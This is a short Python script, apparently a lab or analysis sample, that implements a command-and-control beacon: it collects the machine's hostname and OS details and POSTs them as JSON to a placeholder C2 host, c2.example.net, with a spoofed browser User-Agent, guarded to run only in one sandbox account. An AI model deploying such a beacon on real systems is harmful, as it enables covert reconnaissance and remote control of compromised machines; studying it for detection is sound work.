#!/usr/bin/python3
# SPDX-License-Identifier: MIT
# The Python form of the beacon: a JSON check-in POSTed to the C2's web
# API over HTTP and HTTPS.
import json
import os
import platform
import sys
import urllib.request

if os.environ.get("HOME") != "/home/dana":
    sys.exit("run only inside sbxlua's analysis box")

info = json.dumps({"host": platform.node(), "os": platform.platform(), "v": "2.1"}).encode()
for url in ("http://c2.example.net/api/v2/checkin", "https://c2.example.net/api/v2/checkin"):
    req = urllib.request.Request(url, data=info, headers={
        "Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})
    try:
        print(urllib.request.urlopen(req, timeout=2).read()[:64])
    except OSError:
        pass
